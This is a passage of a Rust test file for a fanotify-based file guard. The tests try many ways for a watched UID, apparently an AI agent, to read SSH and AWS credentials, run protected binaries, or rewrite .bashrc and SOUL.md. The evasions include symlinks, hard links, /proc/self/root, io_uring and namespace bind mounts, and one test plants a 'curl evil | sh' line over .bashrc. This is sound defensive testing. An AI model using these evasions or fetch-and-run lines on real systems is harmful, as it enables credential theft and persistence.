//! Real-kernel tests of the fanotify guard. They run as root on the host,
//! place real marks, and run the attacker as the watched test UID 2001 and
//! the bystander as UID 2002 (`cargo xtask setup` creates them): every
//! evasion is a real process making real system calls, and the assertions
//! are on what it printed — the secret must never appear — not only on its
//! exit status.
//!
//! This binary has its own `main` (harness = false) because it re-executes
//! itself as the test UIDs (see `child.rs`). Each test takes the
//! machine-wide kernel-test lock, as every real-kernel test here must.
//! Filter by passing a substring of a test name.

mod child;

use std::fs::File;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::mpsc::{self, Receiver, Sender};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sentinel_fanotify::{
    Access, Answer, Decider, Error, Guard, MutationKind, Options, Report, Request, RequestKind,
    Scope, Target, TargetState, Verdict,
};

const WATCHED: u32 = 2001;
const OTHER: u32 = 2002;

// ---------------------------------------------------------------- harness

type Test = (&'static str, fn());

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if let Ok(op) = std::env::var(child::ENV) {
        child::run(&op, &args);
    }
    let filter: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let tests: &[Test] = &[
        (
            "capabilities_match_the_kernel",
            capabilities_match_the_kernel,
        ),
        (
            "every_spelling_of_a_protected_read_is_refused",
            every_spelling_of_a_protected_read_is_refused,
        ),
        (
            "files_created_later_are_protected_and_stay_protected_when_moved",
            files_created_later_are_protected_and_stay_protected_when_moved,
        ),
        (
            "tar_and_find_over_a_protected_tree_read_nothing",
            tar_and_find_over_a_protected_tree_read_nothing,
        ),
        (
            "exec_of_a_protected_binary_is_refused",
            exec_of_a_protected_binary_is_refused,
        ),
        (
            "content_write_protection_refuses_truncate_and_write_opens",
            content_write_protection_refuses_truncate_and_write_opens,
        ),
        (
            "holds_wait_for_resolve_or_deadline",
            holds_wait_for_resolve_or_deadline,
        ),
        (
            "a_flood_by_an_unwatched_process_never_stalls",
            a_flood_by_an_unwatched_process_never_stalls,
        ),
        (
            "a_slow_decider_is_answered_by_fallback",
            a_slow_decider_is_answered_by_fallback,
        ),
        (
            "a_panicking_decider_is_answered_by_fallback",
            a_panicking_decider_is_answered_by_fallback,
        ),
        (
            "mutations_are_reported_with_pid_and_path",
            mutations_are_reported_with_pid_and_path,
        ),
        (
            "the_mark_budget_is_enforced_and_reported",
            the_mark_budget_is_enforced_and_reported,
        ),
        (
            "dropping_the_guard_answers_pending_and_leaves_no_marks",
            dropping_the_guard_answers_pending_and_leaves_no_marks,
        ),
    ];
    let selected: Vec<&Test> = tests
        .iter()
        .filter(|(name, _)| filter.is_empty() || filter.iter().any(|f| name.contains(f.as_str())))
        .collect();
    println!("\nrunning {} kernel tests", selected.len());
    let mut failed = Vec::new();
    for (name, test) in selected {
        let started = Instant::now();
        let ok = catch_unwind(AssertUnwindSafe(test)).is_ok();
        println!(
            "test {name} ... {} ({:.1} s)",
            if ok { "ok" } else { "FAILED" },
            started.elapsed().as_secs_f64()
        );
        if !ok {
            failed.push(*name);
        }
    }
    if !failed.is_empty() {
        println!("\nfailed: {}", failed.join(", "));
        std::process::exit(1);
    }
    println!("\nkernel tests: all passed");
}

/// Fails loudly when a precondition is missing: these tests never pass by
/// skipping.
fn require_environment() {
    assert_eq!(
        unsafe { libc::geteuid() },
        0,
        "the fanotify kernel tests must run as root (use `sudo cargo xtask test`)"
    );
    for uid in [WATCHED, OTHER] {
        let ok = Command::new("getent")
            .args(["passwd", &uid.to_string()])
            .output()
            .map(|o| o.status.success())
            .unwrap_or(false);
        assert!(ok, "test user {uid} is missing: run `cargo xtask setup`");
    }
}

/// The machine-wide lock every real-kernel test holds (tests/common).
fn kernel_lock() -> File {
    let file = File::create("/tmp/sentinel-kernel-tests.lock").expect("creating the test lock");
    file.lock().expect("taking the test lock");
    file
}

/// Watched UID: Deny (or Hold, per mode); anyone else: Allow. It reads the
/// object itself first, as a real decider might: the guard must never make
/// its own process wait on itself.
#[derive(Default)]
struct TestDecider {
    mode: Mutex<Mode>,
    holds: Mutex<Option<Sender<Request>>>,
    seen: Mutex<Vec<Request>>,
}

#[derive(Clone, Copy, Default)]
enum Mode {
    #[default]
    DenyWatched,
    HoldWatched,
    Slow(Duration),
    Panic,
}

impl Decider for TestDecider {
    fn decide(&self, r: &Request) -> Answer {
        let _ = std::fs::read(&r.path);
        self.seen.lock().unwrap().push(r.clone());
        let watched = r.uid == WATCHED;
        let mode = *self.mode.lock().unwrap();
        match mode {
            Mode::DenyWatched if watched => Answer::Deny,
            Mode::HoldWatched if watched => {
                if let Some(tx) = &*self.holds.lock().unwrap() {
                    let _ = tx.send(r.clone());
                }
                Answer::Hold
            }
            Mode::Slow(d) => {
                std::thread::sleep(d);
                Answer::Allow
            }
            Mode::Panic => panic!("test decider panics on purpose"),
            _ => Answer::Allow,
        }
    }

    fn fallback(&self, r: &Request) -> Verdict {
        if r.uid == WATCHED {
            Verdict::Deny
        } else {
            Verdict::Allow
        }
    }
}

impl TestDecider {
    fn set(&self, mode: Mode) {
        *self.mode.lock().unwrap() = mode;
    }

    fn holds(&self) -> Receiver<Request> {
        let (tx, rx) = mpsc::channel();
        *self.holds.lock().unwrap() = Some(tx);
        rx
    }

    fn seen(&self) -> Vec<Request> {
        self.seen.lock().unwrap().clone()
    }
}

/// One test's world: the lock, a scratch directory every test UID can use,
/// and (once started) a guard. Fields drop in order: guard, files, lock.
struct Fixture {
    guard: Option<Guard>,
    decider: Arc<TestDecider>,
    dir: tempfile::TempDir,
    _lock: File,
}

impl Fixture {
    fn new() -> Fixture {
        require_environment();
        let lock = kernel_lock();
        let dir = tempfile::Builder::new()
            .prefix("sentinel-fanotify-")
            .tempdir_in("/tmp")
            .expect("a scratch dir");
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        Fixture {
            guard: None,
            decider: Arc::new(TestDecider::default()),
            dir,
            _lock: lock,
        }
    }

    fn start(&mut self, options: Options) -> &Guard {
        let guard = Guard::start(self.decider.clone(), options).expect("starting the guard");
        self.guard.insert(guard)
    }

    fn guard(&self) -> &Guard {
        self.guard.as_ref().expect("guard started")
    }

    fn protect(&self, targets: &[Target]) -> sentinel_fanotify::MarkReport {
        let report = self.guard().set_targets(targets);
        for t in &report.targets {
            assert!(
                !matches!(t.state, TargetState::Failed(_)),
                "target {} failed: {report:#?}",
                t.path.display()
            );
        }
        report
    }

    /// A directory every test UID may write.
    fn mkdir(&self, rel: &str) -> PathBuf {
        let mut p = self.dir.path().to_path_buf();
        for part in Path::new(rel) {
            p.push(part);
            if !p.exists() {
                std::fs::create_dir(&p).unwrap();
                std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o777)).unwrap();
            }
        }
        p
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }
}

/// A file owned by the watched UID (as the agent owns its keys), readable
/// by everyone: only the guard stands between UID 2001 and its content.
fn write_owned(path: &Path, content: &str) {
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::chown(path, Some(WATCHED), Some(WATCHED)).unwrap();
}

fn target(path: &Path, scope: Scope, access: Access, tag: u32) -> Target {
    Target {
        path: path.to_path_buf(),
        scope,
        access,
        tag,
    }
}

fn as_uid(uid: u32, program: &str) -> Command {
    let mut cmd = Command::new(program);
    cmd.uid(uid)
        .gid(uid)
        .current_dir("/tmp")
        .env("HOME", "/tmp")
        .env_remove("LD_LIBRARY_PATH")
        .stdin(Stdio::null());
    cmd
}

/// This binary, as `uid`, running child op `op`.
fn child(uid: u32, op: &str, args: &[&Path]) -> Command {
    let exe = std::env::current_exe().expect("the test binary");
    let mut cmd = as_uid(uid, exe.to_str().expect("utf-8 path"));
    cmd.env(child::ENV, op).args(args);
    cmd
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

fn run_child(uid: u32, op: &str, args: &[&Path]) -> String {
    stdout(&child(uid, op, args).output().expect("running a child"))
}

/// Runs `cmd` with `file` as its descriptor 3 and returns its output.
fn with_fd3(mut cmd: Command, file: &File) -> String {
    let fd = std::os::fd::AsRawFd::as_raw_fd(file);
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(fd, 3) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    stdout(&cmd.output().expect("running a child"))
}

fn sh(uid: u32, line: &str) -> Output {
    as_uid(uid, "/bin/sh")
        .args(["-c", line])
        .output()
        .expect("running sh")
}

fn wait_until(what: &str, mut f: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !f() {
        assert!(Instant::now() < deadline, "timed out waiting until {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Asserts that the watched UID gets nothing of `secret` from `line`, and
/// that the other UID does.
fn refused_for_watched_only(line: &str, secret: &str) {
    let out = sh(WATCHED, line);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !text.contains(secret),
        "UID {WATCHED} read the secret with `{line}`: {text}"
    );
    assert!(
        !out.status.success(),
        "`{line}` succeeded for UID {WATCHED}"
    );
    let out = sh(OTHER, line);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains(secret),
        "UID {OTHER} could not run `{line}`: {text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn child_refused_for_watched_only(op: &str, args: &[&Path], secret: &str) {
    let out = run_child(WATCHED, op, args);
    assert_eq!(out, "ERR EPERM", "{op} {args:?} as UID {WATCHED}");
    let out = run_child(OTHER, op, args);
    assert_eq!(out, format!("OK {secret}"), "{op} {args:?} as UID {OTHER}");
}

fn next_mutation(
    rx: &Receiver<Report>,
    what: &str,
    pred: impl Fn(&sentinel_fanotify::Mutation) -> bool,
) -> sentinel_fanotify::Mutation {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = Vec::new();
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(Report::Mutation(m)) if pred(&m) => return m,
            Ok(other) => seen.push(other),
            Err(_) => panic!("no mutation {what} within 10 s; saw {seen:#?}"),
        }
    }
}

fn fanotify_fds() -> Vec<PathBuf> {
    std::fs::read_dir("/proc/self/fd")
        .unwrap()
        .flatten()
        .filter(|e| {
            // Exactly the group descriptors: scratch paths contain
            // "fanotify" too.
            std::fs::read_link(e.path())
                .map(|l| l == Path::new("anon_inode:[fanotify]"))
                .unwrap_or(false)
        })
        .map(|e| e.path())
        .collect()
}

fn kernel_version() -> (u32, u32) {
    let release = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    let mut it = release
        .trim()
        .split(['.', '-'])
        .map(|p| p.parse::<u32>().unwrap_or(0));
    (it.next().unwrap_or(0), it.next().unwrap_or(0))
}

// ------------------------------------------------------------------ tests

fn capabilities_match_the_kernel() {
    let mut fx = Fixture::new();
    let caps = fx.start(Options::default()).capabilities();
    let version = kernel_version();
    assert!(caps.open_perm);
    assert_eq!(caps.open_exec_perm, version >= (5, 0), "{caps:?}");
    assert_eq!(caps.pre_content, version >= (6, 14), "{caps:?}");
    assert!(caps.mutations, "{caps:?}");
    assert!(
        caps.unlimited_queue && caps.unlimited_marks,
        "root gets both: {caps:?}"
    );
    assert!(
        caps.intent,
        "root reads /proc/<tid>/syscall and stack: {caps:?}"
    );
    println!("    capabilities on {}: {caps:?}", caps.kernel);
}

fn every_spelling_of_a_protected_read_is_refused() {
    let mut fx = Fixture::new();
    let secret = "sentinel-secret-ssh-key-5f1c";
    let ssh = fx.mkdir("home/.ssh");
    let other = fx.mkdir("other");
    let key = ssh.join("id_ed25519");
    write_owned(&key, secret);
    // Links made before the guard started.
    std::os::unix::fs::symlink(&key, other.join("link")).unwrap();
    std::os::unix::fs::symlink(&ssh, other.join("sshdir")).unwrap();
    std::fs::hard_link(&key, other.join("hard")).unwrap();
    fx.start(Options::default());
    fx.protect(&[target(&key, Scope::Object, Access::OPEN, 7)]);

    let home = fx.path("home");
    let h = home.display();
    let k = key.display();
    let o = other.display();
    let spellings = [
        format!("cat '{k}'"),
        format!("cat '{h}/./.ssh/id_ed25519'"),
        format!("cat '{h}//.ssh//id_ed25519'"),
        format!("cat '{h}/.ssh/../.ssh/id_ed25519'"),
        format!("cd '{h}/.ssh' && cat ./id_ed25519"),
        format!("cat '{o}/link'"),
        format!("cat '{o}/sshdir/id_ed25519'"),
        format!("cat '{o}/hard'"),
        format!("cat '/proc/self/root{k}'"),
        format!("cat < '{k}'"),
        format!("head -c 100 '{k}'"),
        format!("dd if='{k}' status=none"),
    ];
    for line in &spellings {
        refused_for_watched_only(line, secret);
    }
    child_refused_for_watched_only("readat", &[&ssh, Path::new("id_ed25519")], secret);
    child_refused_for_watched_only("procfd", &[&ssh, Path::new("id_ed25519")], secret);
    child_refused_for_watched_only("reopen", &[&key], secret);
    child_refused_for_watched_only("reopen", &[&other.join("link")], secret);
    child_refused_for_watched_only("compat-read", &[&key], secret);
    child_refused_for_watched_only("uring-read", &[&key], secret);
    child_refused_for_watched_only("uring-read-async", &[&key], secret);
    // A hard link the agent makes now, and a bind mount in a user
    // namespace of its own.
    let late = other.join("late-link");
    assert_eq!(run_child(WATCHED, "link", &[&key, &late]), "OK");
    refused_for_watched_only(&format!("cat '{}'", late.display()), secret);
    refused_for_watched_only(
        &format!(
            "unshare -Urm sh -c \"mount --bind '{}' /mnt && cat /mnt/id_ed25519\"",
            ssh.display()
        ),
        secret,
    );
    // A descriptor opened by an allowed process and inherited: refused at
    // read(2) where the kernel has pre-content events; without them the
    // read goes through (the README says so) and the test says which.
    let file = File::open(&key).unwrap();
    let out = with_fd3(child(WATCHED, "read3", &[]), &file);
    if fx.guard().capabilities().pre_content {
        assert_eq!(out, "ERR EPERM", "read(2) of an inherited descriptor");
    } else {
        assert_eq!(
            out,
            format!("OK {secret}"),
            "no pre-content events on this kernel"
        );
    }
    assert_eq!(
        with_fd3(child(OTHER, "read3", &[]), &File::open(&key).unwrap()),
        format!("OK {secret}")
    );

    // The decision was taken on the resolved object: the symlink spelling
    // reached the decider as the real path, with the target's tag.
    let seen = fx.decider.seen();
    let real = std::fs::canonicalize(&key).unwrap();
    assert!(
        seen.iter().any(|r| r.uid == WATCHED
            && r.path == real
            && r.tags == [7]
            && r.kind == RequestKind::Open),
        "no request for {} from UID {WATCHED}: {seen:#?}",
        real.display()
    );

    // Renamed by the agent into a directory nobody protects: still the
    // same object.
    let moved = other.join("moved");
    assert_eq!(run_child(WATCHED, "rename", &[&key, &moved]), "OK");
    child_refused_for_watched_only("read", &[&moved], secret);
    refused_for_watched_only(&format!("cat '{}'", moved.display()), secret);
}

fn files_created_later_are_protected_and_stay_protected_when_moved() {
    let mut fx = Fixture::new();
    let secret = "sentinel-secret-aws-3b9e";
    let aws = fx.mkdir("home/.aws");
    let other = fx.mkdir("other");
    let netrc = fx.path("home/.netrc");
    fx.start(Options::default());
    let report = fx.protect(&[
        target(&aws, Scope::Children, Access::OPEN, 1),
        target(&netrc, Scope::Object, Access::OPEN, 2),
    ]);
    assert_eq!(report.targets[1].state, TargetState::Waiting, "{report:#?}");

    // Created after the targets were set: refused from its first open.
    let creds = aws.join("credentials");
    write_owned(&creds, secret);
    child_refused_for_watched_only("read", &[&creds], secret);
    wait_until("the new file has its own mark", || {
        fx.guard().is_marked(&creds)
    });
    // Moved out of the protected directory: its own mark goes with it.
    let moved = other.join("credentials");
    assert_eq!(run_child(WATCHED, "rename", &[&creds, &moved]), "OK");
    child_refused_for_watched_only("read", &[&moved], secret);

    // An object target that did not exist: marked when it appears.
    write_owned(&netrc, secret);
    wait_until("the awaited object is marked", || {
        fx.guard().is_marked(&netrc)
    });
    child_refused_for_watched_only("read", &[&netrc], secret);
    assert!(fx.guard().stats().learned >= 2, "{:?}", fx.guard().stats());
}

fn tar_and_find_over_a_protected_tree_read_nothing() {
    let mut fx = Fixture::new();
    let (s1, s2, s3) = (
        "sentinel-secret-top-91aa",
        "sentinel-secret-deep-03cd",
        "sentinel-secret-later-77e2",
    );
    let ssh = fx.mkdir("home/.ssh");
    fx.mkdir("home/.ssh/keys/deep");
    write_owned(&ssh.join("id_rsa"), s1);
    write_owned(&ssh.join("keys/deep/old"), s2);
    fx.start(Options::default());
    let report = fx.protect(&[target(&ssh, Scope::Subtree, Access::OPEN, 3)]);
    assert_eq!(report.marked, 5, "3 directories and 2 files: {report:#?}");

    let h = fx.path("home");
    for line in [
        format!("tar cf - -C '{}' .ssh", h.display()),
        format!("find '{}' -type f -exec cat {{}} +", ssh.display()),
        format!(
            "cp -r '{}' /dev/null 2>&1; cat '{}'/keys/deep/old",
            ssh.display(),
            ssh.display()
        ),
    ] {
        let out = sh(WATCHED, &line);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.contains(s1) && !text.contains(s2),
            "`{line}` leaked: {text}"
        );
        let out = sh(OTHER, &line);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains(s2), "UID {OTHER} `{line}`: {text}");
    }

    // A directory made later under the subtree is marked, then a file in it
    // is refused.
    let later = ssh.join("later");
    std::fs::create_dir(&later).unwrap();
    std::fs::set_permissions(&later, std::fs::Permissions::from_mode(0o777)).unwrap();
    wait_until("the new directory is marked", || {
        fx.guard().is_marked(&later)
    });
    write_owned(&later.join("k"), s3);
    child_refused_for_watched_only("read", &[&later.join("k")], s3);

    // A tree moved in from outside: everything in it is marked.
    let outside = fx.mkdir("other/tree/sub");
    write_owned(&outside.join("f"), s3);
    let moved_in = ssh.join("tree");
    std::fs::rename(fx.path("other/tree"), &moved_in).unwrap();
    let f = moved_in.join("sub/f");
    wait_until("the moved-in tree is marked", || fx.guard().is_marked(&f));
    child_refused_for_watched_only("read", &[&f], s3);
}

fn exec_of_a_protected_binary_is_refused() {
    let mut fx = Fixture::new();
    let bin = fx.mkdir("bin");
    let tool = bin.join("tool");
    std::fs::copy("/bin/echo", &tool).unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let link = bin.join("tool-link");
    std::os::unix::fs::symlink(&tool, &link).unwrap();
    fx.start(Options::default());
    fx.protect(&[target(&tool, Scope::Object, Access::EXEC, 4)]);
    let marker = "sentinel-exec-marker-12ab";

    for line in [
        format!("'{}' {marker}", tool.display()),
        format!("'{}' {marker}", link.display()),
        format!("cd '{}' && ./tool {marker}", bin.display()),
    ] {
        refused_for_watched_only(&line, marker);
    }
    for program in [&tool, &link] {
        let out = run_child(WATCHED, "execveat", &[program, Path::new(marker)]);
        assert_eq!(
            out,
            "ERR EPERM",
            "execveat(AT_EMPTY_PATH) of {}",
            program.display()
        );
        let out = run_child(OTHER, "execveat", &[program, Path::new(marker)]);
        assert_eq!(out, marker, "execveat as UID {OTHER}");
    }
    // Only exec is protected: reading the binary is not refused.
    let out = sh(WATCHED, &format!("wc -c < '{}'", tool.display()));
    assert!(out.status.success(), "reading an exec-only target: {out:?}");
    let seen = fx.decider.seen();
    assert!(
        seen.iter()
            .any(|r| r.kind == RequestKind::OpenExec && r.uid == WATCHED && r.tags == [4]),
        "{seen:#?}"
    );
}

fn content_write_protection_refuses_truncate_and_write_opens() {
    let mut fx = Fixture::new();
    let identity = "sentinel-identity-do-not-rewrite-4c4c";
    let home = fx.mkdir("home");
    let soul = home.join("SOUL.md");
    write_owned(&soul, identity);
    // Writable by everyone: only the guard keeps UID 2001 from rewriting it.
    std::fs::set_permissions(&soul, std::fs::Permissions::from_mode(0o666)).unwrap();
    let caps = fx.start(Options::default()).capabilities();
    fx.protect(&[target(&soul, Scope::Object, Access::CONTENT_WRITE, 5)]);
    let unchanged = || assert_eq!(std::fs::read_to_string(&soul).unwrap(), identity);

    // Reading stays allowed — every time: the guard must wait for the
    // blocked thread to be off the CPU before it reads what the thread is
    // doing (a 6.1 guest caught it guessing "unknown", hence "write").
    for _ in 0..30 {
        assert_eq!(
            run_child(WATCHED, "read", &[&soul]),
            format!("OK {identity}")
        );
    }
    // Opening for writing or with O_TRUNC is refused before the truncation.
    assert_eq!(run_child(WATCHED, "otrunc", &[&soul]), "ERR EPERM");
    unchanged();
    assert_eq!(run_child(WATCHED, "append", &[&soul]), "ERR EPERM");
    let out = sh(WATCHED, &format!("echo evil > '{}'", soul.display()));
    assert!(!out.status.success());
    unchanged();
    let out = sh(WATCHED, &format!("truncate -s0 '{}'", soul.display()));
    assert!(
        !out.status.success(),
        "coreutils truncate opens for writing first"
    );
    unchanged();

    // A 32-bit openat(O_TRUNC), whose number is preadv's in the 64-bit
    // table: not taken for a read.
    assert_eq!(run_child(WATCHED, "compat-otrunc", &[&soul]), "ERR EPERM");
    unchanged();

    // truncate(2) by path, and ftruncate/write through a descriptor the
    // guard's own process opened and the child inherited as fd 3.
    let inherited = |op: &str| {
        let file = std::fs::OpenOptions::new().write(true).open(&soul).unwrap();
        with_fd3(child(WATCHED, op, &[]), &file)
    };
    if caps.pre_content {
        assert_eq!(run_child(WATCHED, "truncate", &[&soul]), "ERR EPERM");
        unchanged();
        assert_eq!(inherited("ftruncate"), "ERR EPERM");
        unchanged();
        assert_eq!(inherited("write3"), "ERR EPERM");
        unchanged();
    } else {
        // No pre-content events on this kernel: the truncate goes through
        // and is reported after the fact (the test says so rather than
        // skipping).
        let rx = fx.guard().mutations().unwrap();
        assert_eq!(run_child(WATCHED, "truncate", &[&soul]), "OK");
        next_mutation(&rx, "Modified of SOUL.md", |m| {
            m.kind == MutationKind::Modified && m.tags == [5]
        });
        write_owned(&soul, identity);
    }

    // The unwatched UID may rewrite it.
    assert_eq!(run_child(OTHER, "otrunc", &[&soul]), "OK");
    assert_eq!(std::fs::read_to_string(&soul).unwrap(), "");
}

fn holds_wait_for_resolve_or_deadline() {
    let mut fx = Fixture::new();
    let secret = "sentinel-secret-held-a0a0";
    let key = fx.mkdir("home").join("key");
    write_owned(&key, secret);
    fx.decider.set(Mode::HoldWatched);
    let holds = fx.decider.holds();
    fx.start(Options {
        hold_timeout: Duration::from_millis(700),
        ..Options::default()
    });
    fx.protect(&[target(&key, Scope::Object, Access::OPEN, 6)]);
    let spawn_read = || {
        child(WATCHED, "read", &[&key])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let finish = |c: std::process::Child| stdout(&c.wait_with_output().unwrap());

    // Held, then allowed: the read proceeds.
    let c = spawn_read();
    let req = holds.recv_timeout(Duration::from_secs(10)).expect("a hold");
    assert_eq!((req.uid, req.tags.as_slice()), (WATCHED, &[6][..]));
    std::thread::sleep(Duration::from_millis(100));
    fx.guard().resolve_hold(req.id, Verdict::Allow).unwrap();
    assert_eq!(finish(c), format!("OK {secret}"));
    assert!(matches!(
        fx.guard().resolve_hold(req.id, Verdict::Allow),
        Err(Error::NotPending(_))
    ));

    // Held, then denied.
    let c = spawn_read();
    let req = holds.recv_timeout(Duration::from_secs(10)).expect("a hold");
    fx.guard()
        .resolver()
        .resolve(req.id, Verdict::Deny)
        .unwrap();
    assert_eq!(finish(c), "ERR EPERM");

    // Held and forgotten: denied at the deadline.
    let c = spawn_read();
    holds.recv_timeout(Duration::from_secs(10)).expect("a hold");
    assert_eq!(finish(c), "ERR EPERM");
    let stats = fx.guard().stats();
    assert_eq!((stats.held, stats.hold_timeouts), (3, 1), "{stats:?}");
}

fn a_flood_by_an_unwatched_process_never_stalls() {
    let mut fx = Fixture::new();
    let key = fx.mkdir("home").join("key");
    write_owned(&key, "sentinel-secret-flood");
    fx.start(Options::default());
    fx.protect(&[target(&key, Scope::Object, Access::OPEN, 8)]);
    let started = Instant::now();
    let out = run_child(OTHER, "flood", &[&key, Path::new("10000")]);
    let took = started.elapsed();
    assert_eq!(out, "OK 10000/10000");
    let stats = fx.guard().stats();
    assert_eq!(stats.decide_timeouts, 0, "{stats:?}");
    assert!(stats.allowed >= 10_000, "{stats:?}");
    println!(
        "    10000 protected opens by UID {OTHER} took {:.2} s",
        took.as_secs_f64()
    );
}

fn a_slow_decider_is_answered_by_fallback() {
    let mut fx = Fixture::new();
    let secret = "sentinel-secret-slow-5555";
    let key = fx.mkdir("home").join("key");
    write_owned(&key, secret);
    fx.decider.set(Mode::Slow(Duration::from_secs(4)));
    fx.start(Options {
        decide_timeout: Duration::from_millis(200),
        ..Options::default()
    });
    fx.protect(&[target(&key, Scope::Object, Access::OPEN, 9)]);
    // Unwatched: answered by the fallback (Allow) well before the decider
    // would have.
    let started = Instant::now();
    assert_eq!(run_child(OTHER, "read", &[&key]), format!("OK {secret}"));
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "stalled {:?}",
        started.elapsed()
    );
    // Watched: a timeout never allows.
    assert_eq!(run_child(WATCHED, "read", &[&key]), "ERR EPERM");
    let stats = fx.guard().stats();
    assert!(stats.decide_timeouts >= 2, "{stats:?}");
}

fn a_panicking_decider_is_answered_by_fallback() {
    let mut fx = Fixture::new();
    let secret = "sentinel-secret-panic-6666";
    let key = fx.mkdir("home").join("key");
    write_owned(&key, secret);
    fx.decider.set(Mode::Panic);
    // A long decide timeout: the answer must come from the panic path
    // (printing a backtrace can take longer than the default timeout).
    fx.start(Options {
        decide_timeout: Duration::from_secs(30),
        ..Options::default()
    });
    fx.protect(&[target(&key, Scope::Object, Access::OPEN, 10)]);
    assert_eq!(run_child(WATCHED, "read", &[&key]), "ERR EPERM");
    assert_eq!(run_child(OTHER, "read", &[&key]), format!("OK {secret}"));
    let stats = fx.guard().stats();
    assert!(stats.decider_panics >= 2, "{stats:?}");
    assert_eq!(
        stats.decide_timeouts, 0,
        "answered at once, not by the watchdog: {stats:?}"
    );
    // The decider thread survived its panics.
    fx.decider.set(Mode::DenyWatched);
    child_refused_for_watched_only("read", &[&key], secret);
}

fn mutations_are_reported_with_pid_and_path() {
    let mut fx = Fixture::new();
    let ssh = fx.mkdir("home/.ssh");
    let other = fx.mkdir("other");
    let key = ssh.join("id_ed25519");
    write_owned(&key, "sentinel-secret-mut");
    let bashrc = fx.path("home/.bashrc");
    write_owned(&bashrc, "# the user's bashrc\n");
    fx.start(Options::default());
    let rx = fx.guard().mutations().expect("the mutation channel");
    assert!(fx.guard().mutations().is_none(), "handed out once");
    fx.protect(&[
        target(&ssh, Scope::Children, Access::OPEN, 20),
        target(&bashrc, Scope::Object, Access::CONTENT_WRITE, 21),
    ]);
    let act = |op: &str, args: &[&Path]| -> u32 {
        let c = child(WATCHED, op, args)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let pid = c.id();
        c.wait_with_output().unwrap();
        pid
    };

    let new = ssh.join("new");
    let pid = act("create", &[&new]);
    let m = next_mutation(&rx, "Created", |m| m.kind == MutationKind::Created);
    assert_eq!((m.pid, &m.path, m.tags.as_slice()), (pid, &new, &[20][..]));

    let pid = act("chmod", &[&key]);
    let m = next_mutation(&rx, "Attrib (chmod)", |m| {
        m.kind == MutationKind::Attrib && m.pid == pid
    });
    assert_eq!((&m.path, m.tags.as_slice()), (&key, &[20][..]));

    let pid = act("link", &[&key, &other.join("lnk")]);
    let m = next_mutation(&rx, "Attrib (link count)", |m| {
        m.kind == MutationKind::Attrib && m.pid == pid
    });
    assert_eq!(m.path, key);

    // Rename-over: a prepared file renamed onto the protected name.
    let evil = other.join("evil");
    std::fs::write(&evil, "curl evil | sh\n").unwrap();
    std::os::unix::fs::chown(&evil, Some(WATCHED), Some(WATCHED)).unwrap();
    let pid = act("rename", &[&evil, &bashrc]);
    let m = next_mutation(&rx, "MovedTo over .bashrc", |m| {
        m.kind == MutationKind::MovedTo
    });
    assert_eq!(
        (m.pid, &m.path, m.tags.as_slice()),
        (pid, &bashrc, &[21][..])
    );
    // The object now at the name is protected in turn.
    let ino = std::fs::metadata(&bashrc).unwrap().ino();
    wait_until("the new .bashrc is marked", || {
        fx.guard().is_marked(&bashrc)
    });
    assert_eq!(run_child(WATCHED, "otrunc", &[&bashrc]), "ERR EPERM");
    assert_eq!(std::fs::metadata(&bashrc).unwrap().ino(), ino);

    // Moved into a directory the guard never marked, then changed there:
    // the report names the new place (the directory found by its handle).
    let elsewhere = fx.mkdir("elsewhere");
    let moved = elsewhere.join("key-moved");
    let pid = act("rename", &[&key, &moved]);
    let m = next_mutation(&rx, "MovedFrom", |m| {
        m.kind == MutationKind::MovedFrom && m.pid == pid
    });
    assert_eq!(m.path, key);
    let pid = act("chmod", &[&moved]);
    let m = next_mutation(&rx, "Attrib in an unmarked directory", |m| {
        m.kind == MutationKind::Attrib && m.pid == pid
    });
    assert_eq!((&m.path, m.tags.as_slice()), (&moved, &[20][..]));

    let pid = act("unlink", &[&new]);
    let m = next_mutation(&rx, "Deleted", |m| m.kind == MutationKind::Deleted);
    assert_eq!((m.pid, &m.path), (pid, &new));

    // The protected directory itself renamed: reported, and what happens
    // inside it afterwards carries the new path.
    let renamed = fx.path("home/.ssh-renamed");
    let pid = act("rename", &[&ssh, &renamed]);
    let m = next_mutation(&rx, "MovedSelf of the directory", |m| {
        m.kind == MutationKind::MovedSelf && m.pid == pid
    });
    assert!(m.dir, "{m:?}");
    assert_eq!((&m.path, m.tags.as_slice()), (&renamed, &[20][..]));
    let inside = renamed.join("late");
    write_owned(&inside, "x");
    wait_until("the file in the renamed directory is marked", || {
        fx.guard().is_marked(&inside)
    });
    let pid = act("chmod", &[&inside]);
    let m = next_mutation(&rx, "Attrib inside the renamed directory", |m| {
        m.kind == MutationKind::Attrib && m.pid == pid
    });
    assert_eq!(m.path, inside);

    // The guard's own process is never reported.
    std::fs::set_permissions(&moved, std::fs::Permissions::from_mode(0o644)).unwrap();
